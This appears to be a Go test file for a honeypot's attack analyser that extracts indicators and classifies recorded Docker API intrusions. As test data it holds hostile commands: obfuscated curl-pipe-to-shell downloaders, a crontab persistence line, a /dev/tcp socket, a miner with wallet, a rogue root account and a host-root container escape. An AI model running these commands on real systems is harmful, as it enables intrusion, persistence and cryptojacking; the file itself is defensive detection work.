package analyze

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/whalefall/whalefall/internal/event"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func gz(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(s))
	w.Close()
	return b.String()
}

func indicators(text string) map[string]Indicator {
	f := newFinder(map[string]bool{"198.51.100.9": true})
	f.text(text, "staging", 1)
	m := map[string]Indicator{}
	for _, i := range f.out {
		m[i.Type+" "+i.Value] = i
	}
	return m
}

func TestIndicators(t *testing.T) {
	const xmr = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
	for name, tc := range map[string]struct {
		text string
		want []string // type, value and, after a tab, the layer
		not  []string // values that must not be found
	}{
		"plain url":           {"curl -fsSL http://203.0.113.5/a/x.sh | bash", []string{"url http://203.0.113.5/a/x.sh\tplain", "ipv4 203.0.113.5\tplain"}, nil},
		"explicit port":       {"wget -qO- http://203.0.113.5:80/d|sh", []string{"url http://203.0.113.5:80/d"}, nil},
		"no scheme":           {"wget files.example.net/init -O /tmp/i; wget x.sh", []string{"url http://files.example.net/init", "domain files.example.net"}, []string{"x.sh"}},
		"base64":              {"echo " + b64("curl http://203.0.113.6/y.sh|sh") + "|base64 -d|bash", []string{"url http://203.0.113.6/y.sh\tplain>base64"}, nil},
		"base64 of gzip":      {"echo " + b64(gz("wget http://203.0.113.7/z -O- | sh")) + "|base64 -d|gunzip|sh", []string{"url http://203.0.113.7/z\tplain>base64>gzip"}, nil},
		"rev, base64, gzip":   {"* * * * * root echo " + reverse(b64(gz("curl http://203.0.113.8/q|sh"))) + "|rev|base64 -d|gzip -d|sh", []string{"url http://203.0.113.8/q\tplain>rev>base64>gzip"}, nil},
		"hex":                 {"echo " + hex.EncodeToString([]byte("curl http://203.0.113.9/h")) + " | xxd -r -p", []string{"url http://203.0.113.9/h\tplain>hex"}, nil},
		"escapes":             {`printf '\x63\x75\x72\x6c\x20http://203.0.113.10/e'`, []string{"url http://203.0.113.10/e"}, nil},
		"split host":          {`curl http://ma\l\s.ex-\am\ple.n\et/t.sh`, []string{"url http://mals.ex-ample.net/t.sh\tplain>quotes", "domain mals.ex-ample.net"}, []string{"ma"}},
		"split twice":         {`urllib2.urlopen('http://ma\\ls.ex-a\\mple.n\\et/t.sh')`, []string{"domain mals.ex-ample.net"}, []string{"ma"}},
		"variables":           {`H=203.0.113.11; P=8080; curl http://$H:${P}/v.sh`, []string{"url http://203.0.113.11:8080/v.sh\tplain>variables"}, nil},
		"pool and wallet":     {"./m --donate-level 1 -o pool.example.com:13531 -u " + xmr + ".198.51.100.9 -k", []string{"pool pool.example.com:13531", "domain pool.example.com", "wallet-xmr " + xmr}, []string{"198.51.100.9"}},
		"stratum":             {`POOL_URL=stratum+tcp://pool.example.org:3333`, []string{"pool pool.example.org:3333", "domain pool.example.org"}, nil},
		"dev tcp":             {`exec 3<>/dev/tcp/203.0.113.12/443`, []string{"ipv4 203.0.113.12"}, nil},
		"wrong checksum":      {"-u " + strings.Replace(xmr, "5kSi", "5kSj", 1), nil, []string{strings.Replace(xmr, "5kSi", "5kSj", 1)}},
		"bitcoin":             {"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", []string{"wallet-btc 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "wallet-btc bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"}, nil},
		"ethereum":            {"--user 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", []string{"wallet-eth 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"}, nil},
		"onion":               {"curl -x socks5h://127.0.0.1:9050 http://duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion/x", []string{"onion duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion"}, []string{"127.0.0.1"}},
		"e-mail":              {"EMAIL=someone@example.com", []string{"email someone@example.com"}, nil},
		"user with password":  {`evil:$1$123$abcdefghijklmnop:0:0::/root/:/bin/bash`, []string{"user evil"}, nil},
		"own address":         {"curl http://198.51.100.9:2375/version", nil, []string{"198.51.100.9"}},
		"benign text":         {"apt-get install -y python3.11 libssl1.1 nginx-1.18.0.tar.gz; echo version 4.15.0-20-generic, see GPL-2.0 and README.md e.g. foo.bar", nil, []string{"python3.11", "libssl1.1", "nginx-1.18.0.tar.gz", "readme.md", "foo.bar", "4.15.0", "e.g"}},
		"json escapes":        {"curl http://203.0.113.13/a?x=1\u0026y=2", []string{"url http://203.0.113.13/a?x=1&y=2"}, nil},
		"loopback is no clue": {"curl http://127.0.0.1/x http://localhost/x", nil, []string{"127.0.0.1"}},
	} {
		t.Run(name, func(t *testing.T) {
			got := indicators(tc.text)
			for _, w := range tc.want {
				key, layer, _ := strings.Cut(w, "\t")
				i, ok := got[key]
				if !ok {
					t.Errorf("%q not found in %v", key, keys(got))
				} else if layer != "" && i.Layer != layer {
					t.Errorf("%q has layer %q, want %q", key, i.Layer, layer)
				}
			}
			for _, n := range tc.not {
				for k, i := range got {
					if i.Value == n {
						t.Errorf("%q must not be found", k)
					}
				}
			}
		})
	}
}

func keys(m map[string]Indicator) (out []string) {
	for k := range m {
		out = append(out, k)
	}
	return out
}

// tape makes events.
type tape struct {
	evs []*event.Event
	at  time.Time
	n   uint32
}

func newTape() *tape { return &tape{at: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)} }

func (p *tape) add(kind event.Kind, data any) {
	p.at = p.at.Add(time.Second)
	p.evs = append(p.evs, &event.Event{Seq: uint64(len(p.evs) + 1), Time: p.at, Kind: kind, Conn: "c1", Req: p.n, Source: netip.MustParseAddr("192.0.2.1"), Local: netip.MustParseAddrPort("198.51.100.9:2375"), Data: data})
}

func (p *tape) call(method, url, body string, status int, answer string) {
	p.n++
	p.add(event.HTTPRequest, &event.Request{Method: method, URL: url, Headers: []event.Header{{"Host", "198.51.100.9:2375"}, {"User-Agent", "Docker-Client/20.10.8 (linux)"}}})
	if body != "" {
		p.add(event.HTTPBody, &event.Body{Size: int64(len(body)), Data: []byte(body)})
	}
	p.add(event.HTTPAnswer, &event.Answer{Status: status, Start: []byte(answer)})
}

func stepsOf(s Summary) string {
	var k []string
	for _, st := range s.Steps {
		k = append(k, st.Step)
	}
	return strings.Join(k, " ")
}

const denied = `{"message":"authorization denied by plugin guard: no new containers"}`

func TestFoundingCase(t *testing.T) {
	p := newTape()
	p.call("GET", "/version", "", 200, "{}")
	p.call("POST", "/v1.24/images/create?fromSrc=http%3A%2F%2F203.0.113.5%2Fimg.tar&repo=worker", "", 200, `{"status":"sha256:..."}`)
	p.call("POST", "/v1.24/containers/create", `{"Image":"worker","Cmd":["/run.sh"]}`, 403, denied)
	p.call("POST", "/v1.24/containers/create", `{"Image":"alpine","Cmd":["chroot","/mnt","sh"],"HostConfig":{"Binds":["/:/mnt"]}}`, 403, denied)
	s := Session(p.evs)
	if got := stepsOf(s); got != "version image refused tactics refused give-up" {
		t.Errorf("steps: %s", got)
	}
	if s.Kind != "docker-attacker" || s.Client != "docker CLI 20.10.8" || s.Outcome != "gave up" {
		t.Errorf("kind %q client %q outcome %q", s.Kind, s.Client, s.Outcome)
	}
	for _, st := range s.Steps {
		if len(st.Proof) == 0 {
			t.Errorf("step %s has no proof", st.Step)
		}
		for _, q := range st.Proof {
			if q == 0 || int(q) > len(p.evs) {
				t.Errorf("step %s: proof %d is no event", st.Step, q)
			}
		}
	}
	found := false
	for _, i := range s.Indicators {
		found = found || i.Type == "url" && i.Value == "http://203.0.113.5/img.tar"
	}
	if !found {
		t.Errorf("the import's URL is missing: %v", s.Indicators)
	}
}

// The same create five times is no change of tactics.
func TestPlainRetrying(t *testing.T) {
	p := newTape()
	for i := range 5 {
		p.call("POST", fmt.Sprintf("/v1.24/containers/create?name=n%d", i), `{"Image":"alpine","Cmd":["id"]}`, 403, denied)
	}
	s := Session(p.evs)
	if got := stepsOf(s); got != "refused retry retry retry retry give-up" {
		t.Errorf("steps: %s", got)
	}
	if !strings.Contains(s.Steps[len(s.Steps)-1].Text, "5 refusals, by one way") {
		t.Errorf("end: %s", s.Steps[len(s.Steps)-1].Text)
	}
}

func TestWholeChain(t *testing.T) {
	p := newTape()
	p.call("GET", "/_ping", "", 200, "OK")
	p.call("POST", "/v1.24/containers/create", `{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","echo x"],"HostConfig":{"Binds":["/:/mnt"]}}`, 404, `{"message":"No such image: alpine:latest"}`)
	p.call("POST", "/v1.24/images/create?fromImage=alpine&tag=latest", "", 200, "{}")
	p.call("POST", "/v1.24/containers/create", `{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","echo x"],"HostConfig":{"Binds":["/:/mnt"]}}`, 201, `{"Id":"abc"}`)
	p.call("POST", "/v1.24/containers/abc/start", "", 204, "")
	p.add(event.FileWrite, &event.FileWritten{Container: "abc", Path: "/etc/crontab", Host: "/etc/crontab", Size: 40, SHA256: strings.Repeat("a", 64), Data: []byte("* * * * * root curl http://203.0.113.77/c.sh|sh\n")})
	p.add(event.CronFire, &event.CronFired{File: "/etc/crontab", Line: "curl http://203.0.113.77/c.sh|sh", User: "root"})
	p.add(event.NetConnect, &event.Connected{Network: "tcp", Address: "203.0.113.77", Port: 80, URL: "http://203.0.113.77/c.sh"})
	s := Session(p.evs)
	if got := stepsOf(s); got != "scan create image create start persistence persistence second-stage" {
		t.Errorf("steps: %s", got)
	}
	ids := map[string]bool{}
	for _, x := range s.Techniques {
		ids[x.ID] = true
		if x.Name == "" || len(x.Proof) == 0 {
			t.Errorf("%+v", x)
		}
	}
	for _, w := range []string{"T1610", "T1611", "T1053.003", "T1105"} {
		if !ids[w] {
			t.Errorf("%s is missing in %v", w, ids)
		}
	}
	if s.Outcome != "second stage fetched" {
		t.Errorf("outcome %q", s.Outcome)
	}
	types := map[string]bool{}
	for _, i := range s.Indicators {
		types[i.Type] = true
		if strings.Contains(i.Value, "198.51.100.9") {
			t.Errorf("the sensor's own address is an indicator: %+v", i)
		}
	}
	for _, w := range []string{"cron", "url", "ipv4", "path", "sha256", "image"} {
		if !types[w] {
			t.Errorf("no %s", w)
		}
	}
}

// Docker Hub is no indicator, and clearing up after oneself stops no service.
func TestOwnContainerRemoved(t *testing.T) {
	for victim, want := range map[string]bool{"abc": false, "mine": false, "webshop": true} {
		p := newTape()
		p.call("POST", "/v1.41/images/create?fromImage=docker.io%2Flibrary%2Falpine&tag=latest", "", 200, "{}")
		p.call("POST", "/v1.41/images/create?fromImage=hub.example.net%2Fx&tag=latest", "", 200, "{}")
		p.call("POST", "/v1.41/containers/create?name=mine", `{"Image":"alpine","Cmd":["id"]}`, 201, `{"Id":"abc"}`)
		p.call("POST", "/v1.41/containers/abc/start", "", 204, "")
		p.call("DELETE", "/v1.41/containers/"+victim+"?force=1", "", 204, "")
		s := Session(p.evs)
		got := false
		for _, x := range s.Techniques {
			got = got || x.ID == "T1489"
		}
		if got != want {
			t.Errorf("removing %s: T1489 is %t", victim, got)
		}
		hosts := ""
		for _, i := range s.Indicators {
			if i.Type == "domain" {
				hosts += i.Value + " "
			}
		}
		if hosts != "hub.example.net " {
			t.Errorf("hosts: %q", hosts)
		}
	}
}

func TestKinds(t *testing.T) {
	for want, reqs := range map[string][][2]string{
		"scanner":      {{"GET", "/"}, {"GET", "/favicon.ico"}},
		"prober":       {{"GET", "/version"}, {"GET", "/containers/json"}},
		"web-exploit":  {{"GET", "/.env"}, {"GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"}},
		"proxy-seeker": {{"CONNECT", "example.com:443"}},
	} {
		p := newTape()
		for _, r := range reqs {
			p.call(r[0], r[1], "", 404, "")
		}
		if s := Session(p.evs); s.Kind != want {
			t.Errorf("%v is %q, want %q", reqs, s.Kind, want)
		}
	}
}

func TestCredentials(t *testing.T) {
	p := newTape()
	p.n++
	auth, _ := json.Marshal(map[string]string{"username": "u", "password": "p", "serveraddress": "registry.example.com"})
	p.add(event.HTTPRequest, &event.Request{Method: "POST", URL: "/v1.41/images/create?fromImage=x", Headers: []event.Header{{"X-Registry-Auth", base64.URLEncoding.EncodeToString(auth)}}})
	s := Session(p.evs)
	for _, i := range s.Indicators {
		if i.Type == "registry-credential" && i.Value == "u:p@registry.example.com" {
			return
		}
	}
	t.Errorf("%v", s.Indicators)
}

func FuzzUnwrap(f *testing.F) {
	f.Add("echo " + b64(gz("curl http://203.0.113.7/z")) + "|rev|base64 -d")
	f.Add(`a\\b\\c=1 $a \x41 %41`)
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 1<<14 {
			return
		}
		if n := len(Unwrap(s)); n > maxLayers {
			t.Fatalf("%d layers", n)
		}
		indicators(s)
	})
}
